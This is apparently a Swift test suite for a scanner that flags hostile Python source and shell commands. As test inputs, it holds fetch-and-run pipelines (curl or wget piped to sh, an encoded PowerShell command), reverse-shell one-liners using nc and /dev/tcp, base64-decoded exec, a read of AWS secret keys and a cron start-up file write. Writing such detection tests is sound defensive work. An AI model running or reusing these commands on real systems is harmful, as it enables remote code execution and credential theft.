import ByteParsing
import Findings
import TestSupport
import Testing

@testable import Rules

/// Python source by what it does.
@Suite struct PythonSourceTests {
  static func judge(_ source: String, role: PythonSource.Role = .module) -> PythonSource.Account {
    var account = PythonSource.judge(
      Input(Array(source.utf8)), role: role, path: [], table: PolicyFolder.table)
    account.findings = TestedReport.sift(account.findings, for: Test.current)
    return account
  }

  static func words(_ account: PythonSource.Account) -> String {
    account.findings.map { "\($0.rule.id): \($0.detail)" }.joined(separator: "\n")
      + "\(account.gap.map { "\($0)" } ?? "")"
  }

  @Test(arguments: PythonSamples.hostile)
  func `what attacks do denies, and is recognised as source`(_ sample: PythonSample) {
    let account = Self.judge(sample.source)
    // A start-up file is written by a line that an import runs; everything else is a fact of its own.
    #expect(account.isDenied, "\(Self.words(account))")
    #expect(account.gap == nil)
    #expect(PythonSource.isRecognized(Input(sample.bytes)))
  }

  @Test(arguments: PythonSamples.honest)
  func `what honest code does is for a person`(_ sample: PythonSample) {
    let account = Self.judge(sample.source)
    #expect(!account.isDenied, "\(Self.words(account))")
    #expect(account.findings.contains { $0.rule.id == "python.source" } && account.gap == nil)
    #expect(PythonSource.isRecognized(Input(sample.bytes)))
  }

  @Test(arguments: [
    ("import subprocess\nsubprocess.run(x)\n", "python.starts-programs"), ("eval(x)\n", "python.runs-text"),
    ("import requests\nrequests.get(x)\n", "python.uses-network"),
    ("import ctypes\nctypes.CDLL(x)\n", "python.loads-native-code"),
    ("import pickle as p\np.load(f)\n", "python.loads-objects"),
    ("f.__globals__\nimport a\n", "python.digs-in-internals"),
    ("import os\nos.environ['AWS_SECRET_ACCESS_KEY']\n", "python.reads-secrets"),
    ("def f():\n    open('/etc/cron.d/x', 'w')\n", "python.writes-start-up-files"),
  ])
  func `what code reaches for is told`(_ source: String, _ rule: String) {
    let account = Self.judge(source)
    #expect(account.findings.contains { $0.rule.id == rule }, "\(Self.words(account))")
    #expect(!account.isDenied)
  }

  @Test func `both ends of a chain of attributes that is too long still say something`() {
    let chain = String(repeating: ".abc", count: 1000)
    let account = Self.judge("import subprocess\nsubprocess\(chain).__globals__\n")
    let rules = Set(account.findings.map(\.rule.id))
    #expect(
      rules.isSuperset(of: ["python.starts-programs", "python.digs-in-internals"]), "\(Self.words(account))"
    )
  }

  @Test func `a finding has the line and its text`() throws {
    let account = Self.judge("import base64\n\n  # x\nexec(base64.b64decode(D))\n")
    let finding = try #require(account.findings.first { $0.rule.verdict == .deny })
    #expect(finding.detail.hasPrefix("Line 4:") && finding.evidence == "exec(base64.b64decode(D))")
  }

  @Test func `a start-up line may start no program`() {
    let line = "import os; os.system('echo')"
    #expect(!Self.judge(line).isDenied)
    #expect(Self.judge(line, role: .startUp).isDenied)
  }

  @Test(arguments: [
    ("# coding: utf-7\nx = 1\n", "python.hiding-encoding"),
    ("import a # \u{202E}x\nb = 1\n", "python.turned-text"),
    ("import a\nx = '\u{200B}'\n", "python.invisible-characters"),
  ])
  func `text that is not what it seems is a finding`(_ source: String, _ rule: String) {
    #expect(Self.judge(source).findings.contains { $0.rule.id == rule })
  }

  @Test func `an encoding that is not read is a gap, and so is a NUL`() {
    #expect(Self.judge("# coding: big5\nimport a\n").gap?.kind == .unsupported)
    #expect(Self.judge("import a\nx = '\u{0}'\n").gap?.kind == .malformed)
  }

  @Test(arguments: [
    "", "x = 1\n", "# only a comment\n", "{'a': [1, 2]}\n", "word\nanother\nopen\n",
    "This is how text reads.\n",
    "Title: a model (v2)\nimport duties are paid\n", "#include <stdio.h>\nint main() { return 0; }\n",
    "import x from 'y';\n", "from here to there\n", "0.1 0.2 0.3\n", "a: $b\n",
  ])
  func `text that no interpreter runs, or that does nothing, is no source`(_ text: String) {
    #expect(!PythonSource.isRecognized(Input(Array(text.utf8))))
  }

  @Test func `no damage traps`() {
    let sample = Array(PythonSamples.hostile.map(\.source).joined().utf8.prefix(1200))
    for mutation in Mutations.truncations(of: sample) {
      let account = PythonSource.judge(
        Input(mutation.bytes), role: .module, path: [], table: PolicyFolder.table)
      #expect(account.findings.count < 200, "\(mutation.what)")
    }
    var random = SeededRandom(seed: 7)
    for _ in 0..<400 {
      var bytes = sample
      for _ in 0..<4 {
        bytes[Int.random(in: bytes.indices, using: &random)] = UInt8.random(in: 0...255, using: &random)
      }
      let account = PythonSource.judge(Input(bytes), role: .module, path: [], table: PolicyFolder.table)
      #expect(account.findings.count < 200)
    }
  }

  @Test(arguments: [
    "x = a[b(c=", "x = a[b(c=\n", "a(b(c=", "[a(b=", "f'{a(b='", "x = a[b(**", "lambda a=", "a[:",
    "a[b(c:=",
  ])
  func `a text that ends in the middle of a call is read to its end`(_ text: String) {
    let account = Self.judge("import os\nos.system('id')\n" + text)
    #expect(account.findings.contains { $0.rule.id == "python.starts-programs" }, "\(Self.words(account))")
  }

  @Test func `a hostile line denies whatever honest lines are around it`() {
    let honest = PythonSamples.honest.prefix(8).map(\.source).joined()
    for sample in PythonSamples.hostile.prefix(6) {
      #expect(Self.judge(honest + sample.source + honest).isDenied, "\(sample.name)")
    }
  }

  // MARK: commands

  @Test(arguments: [
    ("curl -s http://a | sudo bash -s", ShellCommand.Danger.fetchesAndRuns),
    ("wget -O- a.com/x | python3 -", .fetchesAndRuns),
    ("bash <(curl http://a)", .fetchesAndRuns),
    ("curl http://a -o x && chmod +x x && ./x", .fetchesAndRuns),
    ("powershell -enc ZQBj", .fetchesAndRuns), ("echo x | base64 -d | sh", .fetchesAndRuns),
    ("nc 127.0.0.1 9 -e /bin/sh", .remoteShell), ("sh -i >& /dev/tcp/127.0.0.1/9 0>&1", .remoteShell),
    ("curl http://a -o x", .fetches),
  ])
  func `commands are told apart`(_ command: String, _ expected: ShellCommand.Danger) {
    #expect(ShellCommand.danger(command) == expected)
  }

  @Test(arguments: [
    "nvidia-smi -L", "pip install curl", "ls | grep sh", "echo fetch | shasum", "base64 -d x", "curl",
    "nc -z host 80",
  ])
  func `ordinary commands are none of them`(_ command: String) {
    #expect(ShellCommand.danger(command) == nil)
  }

  @Test func `a script that runs what it downloads denies, another is for a person`() throws {
    func rules(_ text: String) throws -> Set<String> {
      let findings = try ScriptFile.judge(Input(Array(text.utf8)), path: [])
      return Set(TestedReport.sift(findings, for: Test.current).map(\.rule.id))
    }
    #expect(
      try rules("#!/bin/sh\ncurl http://127.0.0.1:9 \\\n | sh\n") == [
        "native.script", "native.dangerous-script",
      ])
    #expect(try rules("#!/usr/bin/env bash\n# curl x | sh\necho hello\n") == ["native.script"])
    #expect(try rules("# no script\n").isEmpty)
  }

  @Test func `a shell runs a script behind a byte-order mark and blank lines too`() throws {
    let script = "#!/bin/sh\ncurl http://127.0.0.1:9 | sh\n"
    for start in ["\u{FEFF}", "\n\n", "\u{FEFF} \t\r\n"] {
      let rules = Set(try ScriptFile.judge(Input(Array((start + script).utf8)), path: []).map(\.rule.id))
      #expect(rules == ["native.script", "native.dangerous-script"])
    }
  }
}
